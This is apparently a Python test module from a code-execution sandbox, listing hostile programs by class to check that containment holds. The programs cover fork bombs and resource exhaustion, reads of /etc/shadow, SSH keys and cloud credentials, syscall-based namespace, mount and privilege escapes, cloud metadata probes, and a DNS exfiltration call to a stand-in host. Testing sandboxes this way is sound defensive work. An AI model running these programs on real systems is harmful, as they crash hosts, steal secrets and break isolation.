"""The programs: what hostile code tries, by class. Each tells all that it could find out on standard output.

Whether one got anywhere is not asked of it: the host is looked at (`host.Watch`). `expect` are the error codes that the
call may end with, when the limit that stops it is known; None: whatever it ends with, the service answers.
"""

from dataclasses import dataclass

# Facts about the host, and raw system calls. Numbers are those of x86-64.
PRELUDE = """
import ctypes, json, os, signal, socket, sys, time
FACTS = json.loads({facts!r})
libc = ctypes.CDLL(None, use_errno=True)
def syscall(number, *arguments):
    outcome = libc.syscall(ctypes.c_long(number), *[a if isinstance(a, (bytes, ctypes.Array)) or a is None else ctypes.c_long(a) for a in arguments])
    if outcome == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return outcome
def attempt(what):
    try:
        print(what())
    except BaseException as error:
        print('refused', repr(error)[:200])
def read(path):
    with open(path, 'rb') as file:
        return file.read(100000)
"""

Codes = frozenset[str] | None
_TIMEOUT = frozenset({"TIMEOUT"})
_MEMORY = frozenset({"OUT_OF_MEMORY"})


@dataclass(frozen=True)
class Hostile:
    """One program."""

    name: str
    kind: str
    code: str
    expect: Codes = None
    seconds: float = 10.0
    tool: str = "python"

    def source(self, facts: str) -> str:
        """The program, told where things of the host are."""
        return PRELUDE.format(facts=facts) + self.code if self.tool == "python" else self.code


def _exhaustion() -> list[Hostile]:
    def one(name: str, code: str, *expect: str, seconds: float = 10.0, tool: str = "python") -> Hostile:
        return Hostile(name, "exhaustion", code, frozenset(expect) or None, seconds, tool)

    fork = "while True:\n    try: os.fork()\n    except OSError: time.sleep(0.01)"
    return [
        one("a fork bomb", fork, "TIMEOUT", "KILLED", "OUT_OF_MEMORY", seconds=1),
        one(
            "a fork bomb of the shell",
            ":(){ :|:& };:\nsleep 5",
            "TIMEOUT",
            "TOO_MANY_PROCESSES",
            "KILLED",
            "EXIT_STATUS",
            "OUT_OF_MEMORY",
            seconds=1,
            tool="shell",
        ),
        one(
            "a fork bomb whose parents end",
            "while True:\n    try:\n        if os.fork(): os._exit(0)\n    except OSError: pass",
            "TIMEOUT",
            "EXIT_STATUS",
            "TOO_MANY_PROCESSES",
            "",
            "KILLED",
            seconds=1,
        ),
        one(
            "a thread bomb",
            "import threading\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
            "TOO_MANY_PROCESSES",
            "TIMEOUT",
            "EXIT_STATUS",
            "OUT_OF_MEMORY",
            "KILLED",
            seconds=2,
        ),
        one("memory in one process", "held = []\nwhile True: held.append(bytearray(1 << 20))", "OUT_OF_MEMORY"),
        one(
            "memory in many processes",
            "for _ in range(12):\n    if os.fork() == 0:\n        held = bytearray(60 << 20)\n"
            "        for at in range(0, len(held), 4096): held[at] = 1\n        time.sleep(60)\n"
            "for _ in range(12):\n    if os.wait()[1]: sys.exit(1)",
            "OUT_OF_MEMORY",
            "KILLED",
            seconds=20,
        ),
        one(
            "memory mapped and shared with children",
            "import mmap\nheld = []\nwhile True:\n    block = mmap.mmap(-1, 8 << 20)\n"
            "    for at in range(0, 8 << 20, 4096): block[at] = 1\n    held.append(block)",
            "OUT_OF_MEMORY",
            "EXIT_STATUS",
        ),
        one(
            "memory in a memfd",
            "fd = syscall(319, b'x', 0)\nwhile True: os.write(fd, bytes(1 << 20))",
            "EXIT_STATUS",
            "OUT_OF_MEMORY",
            "FILE_TOO_LARGE",
            "KILLED",
        ),
        one(
            "memory in pipes",
            "held = []\nwhile True:\n    held.append(os.pipe())\n    os.set_blocking(held[-1][1], False)\n"
            "    os.write(held[-1][1], bytes(65536))",
            "TOO_MANY_OPEN_FILES",
        ),
        one(
            "memory in socket buffers",
            "held = []\nwhile True:\n    a, b = socket.socketpair()\n    a.setblocking(False)\n"
            "    held += [a, b]\n    try:\n        while True: a.send(bytes(65536))\n    except BlockingIOError: pass",
            "TOO_MANY_OPEN_FILES",
            "OUT_OF_MEMORY",
            "KILLED",
        ),
        one("a full disk", "for n in range(100): open(f'f{n}', 'wb').write(bytes(1 << 20))", "WORKSPACE_FULL"),
        one(
            "a full disk in every folder that can be written",
            "for top, folders, _ in os.walk('/'):\n"
            "    if top.startswith(('/proc', '/sys')): folders.clear(); continue\n"
            "    try:\n        with open(top + '/fill', 'wb') as file:\n            for _ in range(64): file.write(bytes(1 << 20))\n"
            "    except OSError as error: print(top, error)",
            None or "",
            "WORKSPACE_FULL",
            seconds=20,
        ),
        one("a file of a terabyte", "open('f', 'wb').truncate(1 << 40)", "FILE_TOO_LARGE"),
        one(
            "all inodes",
            "for n in range(100_000): open(f'f{n}', 'w').close()",
            "TOO_MANY_FILES",
            "TIMEOUT",
            "OUT_OF_MEMORY",
            seconds=4,
        ),
        one(
            "folders without end",
            "while True:\n    os.mkdir('d'); os.chdir('d')",
            "TOO_MANY_FILES",
            "EXIT_STATUS",
            "TIMEOUT",
            "OUT_OF_MEMORY",
            "WORKSPACE_FULL",
            seconds=3,
        ),
        one("all descriptors", "held = [open('/dev/null') for _ in range(10_000)]", "TOO_MANY_OPEN_FILES"),
        one("a processor spin", "while True: pass", "TIMEOUT", seconds=0.7),
        one(
            "a processor spin in many processes",
            "for _ in range(8): os.fork()\nwhile True: pass",
            "TIMEOUT",
            "KILLED",
            "TOO_MANY_PROCESSES",
            "EXIT_STATUS",
            seconds=1,
        ),
        one("sleep for ever", "time.sleep(1e6)", "TIMEOUT", seconds=0.5),
        one(
            "deaf to all signals",
            "for n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
            "    except (OSError, ValueError): pass\nwhile True: time.sleep(99)",
            "TIMEOUT",
            seconds=0.5,
        ),
        one(
            "a daemon that outlives the call",
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(1e6)'])\n    os._exit(0)\nos.wait()",
            "",
        ),
        one(
            "daemons that fork when they are killed",
            "for _ in range(5):\n    if os.fork() == 0:\n        while True:\n"
            "            try:\n                if os.fork(): os._exit(0)\n            except OSError: pass",
            "",
            "TOO_MANY_PROCESSES",
            "EXIT_STATUS",
            "TIMEOUT",
            "KILLED",
            seconds=5,
        ),
        one(
            "a background job of the shell",
            "nohup sleep 1000000 >/dev/null 2>&1 &\nsetsid sleep 1000000 &\necho started",
            "",
            "EXIT_STATUS",
            tool="shell",
        ),
        one(
            "the runner stopped",
            "for pid in (1, os.getppid()):\n    for n in (9, 19, 15, 2, 20):\n"
            "        try: os.kill(pid, n)\n        except OSError as error: print(error)\ntime.sleep(0.2)",
            "",
        ),
        one(
            "the runner starved of descriptors",
            "import resource\nfor pid in (1, os.getppid()):\n"
            "    attempt(lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)))\n"
            "    attempt(lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)))",
            "",
        ),
        one(
            "limits raised",
            "import resource\nfor name in [n for n in dir(resource) if n.startswith('RLIMIT_')]:\n"
            "    number = getattr(resource, name)\n    attempt(lambda: resource.setrlimit(number, (resource.RLIM_INFINITY,) * 2))\n"
            "held = []\nwhile True: held.append(bytearray(1 << 20))",
            "OUT_OF_MEMORY",
            "KILLED",
        ),
        one(
            "a compiler bomb",
            "compile('(' * 100 + '1' + ',)' * 100 + '+(-' * 3000 + '1' + ')' * 3000, 'x', 'exec')",
            "EXIT_STATUS",
            "OUT_OF_MEMORY",
            "",
            seconds=5,
        ),
        one(
            "a regular expression without end", "import re\nre.match('(a+)+$', 'a' * 60 + 'b')", "TIMEOUT", seconds=0.7
        ),
    ]


def _output() -> list[Hostile]:
    def one(name: str, code: str, *expect: str, seconds: float = 20.0) -> Hostile:
        return Hostile(name, "output", code, frozenset(expect) or None, seconds)

    return [
        one("gigabytes on standard output", "while True: os.write(1, b'x' * 65536)", "OUTPUT_TOO_LARGE"),
        one(
            "gigabytes on both streams from many processes",
            "for _ in range(4): os.fork()\nwhile True: os.write(1, b'x' * 65536); os.write(2, b'y' * 65536)",
            "OUTPUT_TOO_LARGE",
        ),
        one("binary without a newline", "os.write(1, bytes(range(256)) * 4096)", ""),
        one("terminal control sequences", "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m' * 100)", ""),
        one("broken UTF-8 and surrogates", "os.write(1, b'\\xff\\xfe\\xed\\xa0\\x80\\x00' * 1000)", ""),
        one("file names as long as they can be", "for n in range(20): open(chr(97 + n) * 255, 'w').write('x')", ""),
        one(
            "file names with line feeds and escapes",
            "for name in ('a\\nb.png', '\\x1b[2J.png', '-rf', ' ', 'a\\\\b.svg'):\n"
            "    open(name, 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n')",
            "",
        ),
        one(
            "file names that are shown as others",
            "for name in ('\\u202egnp.png', '\\x9b31m.png', 'a\\u200b.png', '\\u2028.png'):\n"
            "    open(name, 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n')",
            "",
        ),
        one("file names that are no text", "open(b'\\xff\\xfe.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n')", ""),
        one(
            "pictures without number",
            "for n in range(500): open(f'{n}.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n')",
            "",
        ),
        one(
            "a result of a gigabyte",
            "with open('result.json', 'wb') as file: file.truncate(7 << 20)",
            "OUTPUT_TOO_LARGE",
        ),
        one("a result nested without end", "open('result.json', 'w').write('[' * 500_000)", "INVALID_RESULT"),
        one(
            "output that goes on after the end",
            "if os.fork() == 0:\n    while True: os.write(1, b'late')",
            "",
            "OUTPUT_TOO_LARGE",
        ),
    ]


def _files() -> list[Hostile]:
    def one(name: str, code: str, *expect: str) -> Hostile:
        return Hostile(name, "files", code, frozenset(expect) or None)

    def result(name: str, make: str) -> Hostile:
        return one(f"a result that is {name}", make, "INVALID_RESULT", "EXIT_STATUS")

    return [
        one(
            "a file of the host by its path",
            "attempt(lambda: read(FACTS['file']))\nattempt(lambda: read(FACTS['private_file']))",
        ),
        one(
            "a file of the host by steps up",
            "for depth in range(1, 12):\n    attempt(lambda: read('../' * depth + FACTS['file'][1:]))",
        ),
        one(
            "a file of the host by links",
            "for name in ('file', 'private_file'):\n    os.symlink(FACTS[name], name)\n"
            "    attempt(lambda: read(name))\n    attempt(lambda: os.link(FACTS[name], name + '-hard'))",
        ),
        one(
            "a file of the host written",
            "for name in ('file', 'private_file', 'writable_file'):\n"
            "    attempt(lambda: open(FACTS[name], 'w').write('gone'))\n    attempt(lambda: os.unlink(FACTS[name]))",
        ),
        result("a link to the host's passwords", "os.symlink('/etc/shadow', 'result.json')"),
        result("a link to a file of the host", "os.symlink(FACTS['file'], 'result.json')"),
        result("a link to the runner's descriptors", "os.symlink('/proc/1/fd/0', 'result.json')"),
        result("a link to itself", "os.symlink('result.json', 'result.json')"),
        result("a FIFO", "os.mkfifo('result.json')"),
        result("a folder", "os.mkdir('result.json')"),
        result("a socket", "socket.socket(socket.AF_UNIX).bind('result.json')"),
        result("a device", "os.mknod('result.json', 0o20666, os.makedev(1, 5))"),
        one(
            "a result that is swapped while it is read",
            "open('result.json', 'w').write('1')\nif os.fork() == 0:\n    while True:\n"
            "        open('other', 'w').write('2'); os.rename('other', 'result.json')\n"
            "        os.unlink('result.json'); os.symlink('/etc/shadow', 'result.json'); os.unlink('result.json')",
        ),
        one(
            "pictures that are links out",
            "for n, target in enumerate(('/etc/shadow', FACTS['file'], '/proc/1/environ', '/dev/zero')):\n"
            "    os.symlink(target, f'{n}.png')\nos.symlink('/', 'root.svg')\nos.mkfifo('fifo.png')",
            "",
        ),
        one(
            "folders that are links out",
            "os.symlink('/', 'up')\nos.symlink('..', 'back')\nos.symlink(os.path.dirname(FACTS['file']), 'host')",
            "",
        ),
        one(
            "an archive with paths out of it",
            "import io, tarfile\nwith tarfile.open('a.tar', 'w') as tar:\n"
            "    for name in ('../../' + FACTS['writable_file'][1:], FACTS['writable_file']):\n"
            "        info = tarfile.TarInfo(name); info.size = 4; tar.addfile(info, io.BytesIO(b'gone'))\n"
            "tarfile.open('a.tar').extractall('.', filter='fully_trusted')",
        ),
        one(
            "the processes' files in /proc",
            "for pid in ('self', '1', str(os.getppid()), str(FACTS['pid'])):\n"
            "    for name in ('environ', 'cmdline', 'maps', 'mem', 'cwd', 'root/etc/shadow', 'root' + FACTS['file'], 'fd/0'):\n"
            "        attempt(lambda: read(f'/proc/{pid}/{name}'))",
        ),
        one(
            "the kernel's memory",
            "for path in ('/proc/kcore', '/dev/mem', '/dev/kmem', '/dev/port', '/proc/kallsyms', '/proc/kmsg'):\n"
            "    attempt(lambda: len(read(path)))",
        ),
        one(
            "the kernel's switches",
            "for path in ('/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/sys/kernel/uevent_helper',\n"
            "             '/sys/fs/cgroup/memory/release_agent', '/proc/sys/vm/drop_caches', '/proc/self/oom_score_adj'):\n"
            "    attempt(lambda: open(path, 'w').write('0'))",
        ),
        one(
            "devices made and read",
            "for name, number in (('sda', (8, 0)), ('vda', (254, 0)), ('mem', (1, 1)), ('tty', (5, 0))):\n"
            "    for kind in (0o60666, 0o20666):\n        attempt(lambda: os.mknod(name, kind, os.makedev(*number)))\n"
            "        attempt(lambda: len(read(name)))",
        ),
        one(
            "the sandbox's own programs changed",
            "for path in (sys.executable, '/usr/lib/slipway/slipway_tools/sandbox/runner.pyc', '/usr/bin/bash',\n"
            "             os.__file__, '/proc/self/exe', '/proc/1/exe'):\n    attempt(lambda: open(path, 'r+b').write(b'gone'))\n"
            "    attempt(lambda: os.unlink(path))\n    attempt(lambda: os.chmod(path, 0o777))",
        ),
        one(
            "the report forged",
            "for fd in range(3, 256):\n    try: os.write(fd, b'done 0 file 3 0 0 0 0 0 0 0\\n\"9\"')\n    except OSError: pass\n"
            "open('result.json', 'w').write('1')",
            "",
        ),
        one(
            "the control channel read and written",
            "for fd in range(0, 256):\n    for act in (lambda: os.read(fd, 1) if fd > 2 else None,):\n"
            "        try: act()\n        except OSError: pass\nfor fd in ('0', '3', '5'):\n"
            "    attempt(lambda: os.write(os.open(f'/proc/1/fd/{fd}', os.O_WRONLY), b'00000000'))",
            "",
            "TIMEOUT",
        ),
    ]


def _kernel() -> list[Hostile]:
    def one(name: str, code: str, *expect: str) -> Hostile:
        return Hostile(name, "kernel", code, frozenset(expect) or None)

    def calls(name: str, *numbers: tuple[object, ...]) -> Hostile:
        body = "".join(f"attempt(lambda: syscall({', '.join(map(repr, numbers_))}))\n" for numbers_ in numbers)
        return one(name, body)

    enter = "attempt(lambda: read(FACTS['private_file']))\nattempt(lambda: open(FACTS['writable_file'], 'w').write('gone'))\n"
    return [
        one(
            "ptrace of the runner and of the host",
            "for pid in (1, os.getppid(), FACTS['pid']):\n    attempt(lambda: syscall(101, 16, pid, 0, 0))\n"
            "    attempt(lambda: syscall(101, 0x4206, pid, 0, 0))",
        ),
        one(
            "memory of other processes",
            "buffer = ctypes.create_string_buffer(4096)\nclass V(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
            "for pid in (1, FACTS['pid']):\n    for at in (0x400000, 0x555555554000):\n"
            "        near, far = V(ctypes.addressof(buffer), 4096), V(at, 4096)\n"
            "        print(libc.process_vm_readv(pid, ctypes.byref(near), 1, ctypes.byref(far), 1, 0), buffer.raw[:16])",
        ),
        one(
            "a process of the host signalled",
            "for n in (0, 9, 15, 19):\n    attempt(lambda: os.kill(FACTS['pid'], n))\n"
            "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(FACTS['pid']), 9))",
        ),
        one(
            "root by setuid",
            "for number in (105, 106, 113, 114, 117, 119):\n    attempt(lambda: syscall(number, 0, 0, 0))\nprint(os.getuid())\n"
            + enter,
        ),
        one(
            "capabilities",
            "head = (ctypes.c_uint32 * 2)(0x20080522, 0); data = (ctypes.c_uint32 * 6)(*[0xffffffff] * 6)\n"
            "attempt(lambda: syscall(126, head, data))\nattempt(lambda: syscall(157, 47, 2, 21, 0, 0))\n" + enter,
        ),
        one(
            "namespaces unshared",
            "for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x2000000, 0x4000000, 0x8000000):\n"
            "    attempt(lambda: syscall(272, flag))\n" + enter,
        ),
        one(
            "namespaces by clone",
            "for flag in (0x10000000, 0x10020000, 0x50000000):\n    def go():\n        pid = syscall(56, flag | 17, 0, 0, 0, 0)\n"
            "        if pid == 0: os._exit(0)\n        return pid\n    attempt(go)\nattempt(lambda: syscall(435, bytes(88), 88))\n"
            + enter,
        ),
        one(
            "namespaces of the host entered",
            "for path in ('/proc/1/ns/mnt', '/proc/1/ns/net', f\"/proc/{FACTS['pid']}/ns/mnt\"):\n"
            "    attempt(lambda: syscall(308, os.open(path, os.O_RDONLY), 0))\nattempt(lambda: syscall(308, os.pidfd_open(1), 0x20000))\n"
            + enter,
        ),
        one(
            "file systems mounted",
            "for kind in (b'proc', b'sysfs', b'tmpfs', b'cgroup', b'devtmpfs', b'overlay', b'debugfs'):\n"
            "    os.makedirs('m', exist_ok=True)\n    attempt(lambda: syscall(165, b'none', b'm', kind, 0, 0))\n"
            "attempt(lambda: syscall(165, b'/', b'm', b'', 4096, 0))\nattempt(lambda: syscall(165, b'none', b'/', b'', 32, 0))\n"
            "attempt(lambda: syscall(166, b'/work', 2))\nattempt(lambda: open('/usr/x', 'w'))\n" + enter,
        ),
        one(
            "file systems by the new calls",
            "attempt(lambda: syscall(430, b'tmpfs', 0))\nattempt(lambda: syscall(428, -100, b'/', 1))\n"
            "attempt(lambda: syscall(429, 0, b'', -100, b'm', 4))\nattempt(lambda: syscall(442, -100, b'/', 0, bytes(32), 32))",
        ),
        one(
            "out of the root by chroot",
            "os.makedirs('c', exist_ok=True)\nattempt(lambda: os.chroot('c'))\nfor _ in range(30): os.chdir('..')\n"
            "attempt(lambda: os.chroot('.'))\nprint(os.listdir('.'))\n"
            + enter
            + "attempt(lambda: syscall(155, b'.', b'.'))",
        ),
        one(
            "files by handle",
            "for inode in (2, 3, 128, 256):\n    handle = (ctypes.c_uint32 * 4)(8, 1, inode, 0)\n"
            "    attempt(lambda: read(f'/proc/self/fd/{syscall(304, os.open(\"/\", os.O_RDONLY), handle, 0)}'))\n"
            "attempt(lambda: syscall(303, -100, b'/', bytes(128), bytes(8), 0))",
        ),
        one(
            "the host's keys",
            "for ring in (-1, -2, -3, -4, -5, -8):\n    def go():\n        key = syscall(250, 10, ring, b'user', FACTS['key_name'].encode(), 0)\n"
            "        buffer = ctypes.create_string_buffer(256)\n        syscall(250, 11, key, buffer, 256)\n        return buffer.value\n    attempt(go)\n"
            "attempt(lambda: syscall(249, b'user', FACTS['key_name'].encode(), None, 0))",
        ),
        one(
            "the host's shared memory",
            "def go():\n    libc.shmat.restype = ctypes.c_void_p\n    at = libc.shmat(syscall(29, FACTS['shm_key'], 4096, 0), None, 0)\n"
            "    return ctypes.string_at(at, 64)\nattempt(go)\nfor n in range(40):\n    def look():\n        libc.shmat.restype = ctypes.c_void_p\n"
            "        at = libc.shmat(n, None, 0o10000)\n        if at in (None, 2**64 - 1): raise OSError(ctypes.get_errno(), 'shmat')\n"
            "        return ctypes.string_at(at, 64)\n    attempt(look)",
        ),
        calls(
            "bpf, perf, userfaultfd, kexec, modules",
            (321, 0, bytes(64), 64),
            (298, bytes(112), 0, -1, -1, 0),
            (323, 0),
            (246, 0, 0, 0, 0),
            (320, -1, -1, 0, b"", 0),
            (175, b"", 0, b""),
            (313, -1, b"", 0),
        ),
        one(
            "io_uring beside the filter",
            "attempt(lambda: syscall(425, 8, bytes(120)))\nattempt(lambda: syscall(426, 3, 1, 0, 0, 0))\n"
            "attempt(lambda: syscall(427, 3, 0, 0, 0))",
        ),
        calls("the x32 calls", *((0x40000000 | number, 0, 0, 0) for number in (39, 2, 59, 101, 165, 272))),
        one(
            "the 32-bit entry of the kernel",
            "import mmap\npage = mmap.mmap(-1, 4096, prot=7)\npage.write(bytes.fromhex('b814000000cd80c3'))\n"
            "print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())",
        ),
        calls(
            "the clock, the name, the swap, the log",
            (227, 0, bytes(16)),
            (164, bytes(16), 0),
            (170, b"owned", 5),
            (171, b"owned", 5),
            (167, b"/work/x", 0),
            (103, 3, bytes(64), 64),
            (305, 0, bytes(208)),
        ),
        calls(
            "schedules and priorities",
            (141, 0, 0, -20),
            (144, 0, 1, bytes(4)),
            (203, 0, 8, bytes(8)),
            (251, 1, 0, 0),
            (314, 0, bytes(48), 0),
        ),
        one(
            "the filter replaced",
            "attempt(lambda: syscall(317, 0, 0, 0))\nattempt(lambda: syscall(157, 22, 2, 0, 0, 0))\n"
            "attempt(lambda: syscall(157, 38, 0, 0, 0, 0))\nattempt(lambda: syscall(157, 4, 1, 0, 0, 0))\n"
            "attempt(lambda: syscall(158, 0x5001, 0))\nattempt(lambda: syscall(135, 0x0400000))\nattempt(lambda: syscall(9999))",
        ),
        one(
            "a set-user-id program",
            "import shutil\nshutil.copy(sys.executable, 'root')\nattempt(lambda: os.chown('root', 0, 0))\n"
            "attempt(lambda: os.chmod('root', 0o4755))\nattempt(lambda: os.system('./root -c \"import os; print(os.geteuid())\"'))\n"
            + enter,
        ),
        one(
            "file changes watched",
            "attempt(lambda: syscall(300, 0, 0))\nattempt(lambda: syscall(301, 3, 1, 0x100, -100, b'/'))",
        ),
    ]


def _network() -> list[Hostile]:
    def one(name: str, code: str) -> Hostile:
        return Hostile(name, "network", code)

    def connect(name: str, hosts: str) -> Hostile:
        return one(
            name,
            f"for host in {hosts}:\n    attempt(lambda: socket.create_connection((host, FACTS['port']), 0.2).recv(100))",
        )

    return [
        connect("the loopback address", "('127.0.0.1', 'localhost', '::1', '127.1', '0.0.0.0', '127.255.255.254')"),
        connect("the host's own addresses", "FACTS['addresses']"),
        connect("IPv6 that holds IPv4", "('::ffff:127.0.0.1', '::127.0.0.1', '64:ff9b::7f00:1', '::ffff:7f00:1')"),
        one(
            "the metadata address",
            "for host in ('169.254.169.254', 'fd00:ec2::254', '100.100.100.200', 'metadata.google.internal'):\n"
            "    attempt(lambda: socket.create_connection((host, 80), 0.2))",
        ),
        one(
            "the Internet",
            "for host in ('8.8.8.8', '1.1.1.1', '2606:4700:4700::1111'):\n    attempt(lambda: socket.create_connection((host, 53), 0.2))",
        ),
        one(
            "data smuggled out by DNS",
            "for host in FACTS['addresses']:\n    for family in (socket.AF_INET, socket.AF_INET6):\n"
            "        attempt(lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b'secret', (host, FACTS['udp_port'])))\n"
            "attempt(lambda: socket.getaddrinfo('secret.exfiltrated.example', 80))",
        ),
        one(
            "raw packets",
            "for family, kind in ((2, 3), (10, 3), (17, 3), (17, 2), (16, 3), (40, 1), (38, 5), (31, 1), (44, 2)):\n"
            "    attempt(lambda: socket.socket(family, kind))",
        ),
        one(
            "an abstract socket of the host",
            "attempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0' + FACTS['abstract']))\n"
            "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\nattempt(lambda: s.connect('\\0' + FACTS['abstract']))",
        ),
        one(
            "a named socket of the host",
            "for path in (FACTS['socket'], '/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/egress/proxy.sock'):\n"
            "    s = socket.socket(socket.AF_UNIX); s.settimeout(3)\n    attempt(lambda: (s.connect(path), s.recv(100)))",
        ),
        one(
            "the proxy where there is none",
            "attempt(lambda: socket.create_connection(('127.0.0.1', 3128), 0.2))\n"
            "print({k: v for k, v in os.environ.items() if 'proxy' in k.lower()})",
        ),
        one(
            "a network made anew",
            "attempt(lambda: syscall(272, 0x40000000))\nattempt(lambda: syscall(165, b'none', b'/sys', b'sysfs', 0, 0))\n"
            "for n in (0x8914, 0x8916, 0x890B):\n    attempt(lambda: __import__('fcntl').ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), n, bytes(40)))",
        ),
    ]


def _secrets() -> list[Hostile]:
    def one(name: str, code: str, tool: str = "python") -> Hostile:
        return Hostile(name, "secrets", code, tool=tool)

    return [
        one(
            "the environment",
            "print(dict(os.environ))\nlibc.environ\nfor pid in (1, os.getppid()):\n    attempt(lambda: read(f'/proc/{pid}/environ'))",
        ),
        one("the environment of the shell", "env; set; cat /proc/*/environ", tool="shell"),
        one(
            "service-account tokens and keys",
            "for path in ('/var/run/secrets/kubernetes.io/serviceaccount/token', '/root/.ssh/id_rsa',\n"
            "    '/root/.aws/credentials', '/etc/shadow', '/etc/passwd', '/root/.netrc', '/root/.docker/config.json'):\n    attempt(lambda: read(path))",
        ),
        one(
            "everything that can be read",
            "seen = 0\nfor top, folders, files in os.walk('/'):\n    if top.startswith('/proc'): folders.clear(); continue\n"
            "    for name in files:\n        if seen < 20000 and not top.startswith(('/usr/lib/python', '/sys')):\n            seen += 1\n"
            "            try: data = read(top + '/' + name)\n            except OSError: continue\n            if b'canary' in data: print(top, name, data[:300])",
        ),
        one(
            "what an earlier call left",
            "print(os.listdir('/work'), os.listdir('/tmp'))\nfor path in ('/dev/shm', '/var/tmp', '/run', '/dev/mqueue'):\n"
            "    attempt(lambda: os.listdir(path))",
        ),
        one(
            "memory that was not cleared",
            "import mmap\nblock = mmap.mmap(-1, 32 << 20)\nat = block.find(b'canary')\nprint(block[at:at + 60] if at >= 0 else 'none')",
        ),
    ]


def _interpreters() -> list[Hostile]:
    def one(name: str, code: str) -> Hostile:
        return Hostile(name, "interpreters", code)

    return [
        one(
            "classes walked to a shell",
            "for cls in ().__class__.__base__.__subclasses__():\n    if cls.__name__ == '_wrap_close':\n"
            "        attempt(lambda: cls.__init__.__globals__['system']('cat ' + FACTS['file'] + '; id'))",
        ),
        one(
            "native code by ctypes",
            "attempt(lambda: libc.system(('cat ' + FACTS['file'] + ' ' + FACTS['private_file']).encode()))",
        ),
        one(
            "the runner's frames and modules",
            "import gc\nframe = sys._getframe()\nwhile frame:\n    print(frame.f_code.co_filename, [k for k in frame.f_globals][:50])\n"
            "    frame = frame.f_back\nprint([m for m in sys.modules if 'slipway' in m])\nprint([o for o in gc.get_objects() if type(o).__name__ == 'Runner'][:1])",
        ),
        one(
            "a module in place of the library's",
            "open('json.py', 'w').write('raise SystemExit(9)')\nopen('os.py', 'w').write('raise SystemExit(9)')\n"
            "os.execv(sys.executable, [sys.executable, '-c', 'import json, os; print(json.__file__)'])",
        ),
    ]


PROGRAMS: list[Hostile] = [
    *_exhaustion(),
    *_output(),
    *_files(),
    *_kernel(),
    *_network(),
    *_secrets(),
    *_interpreters(),
]
